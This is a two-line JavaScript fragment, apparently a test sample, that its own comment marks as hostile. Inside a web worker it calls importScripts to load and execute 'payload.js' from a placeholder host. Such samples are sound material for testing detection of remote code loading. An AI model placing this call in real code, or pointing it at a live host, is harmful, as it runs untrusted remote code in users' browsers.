// hostile: importScripts, got from the worker's scope
self.importScripts("http://example.invalid/payload.js");
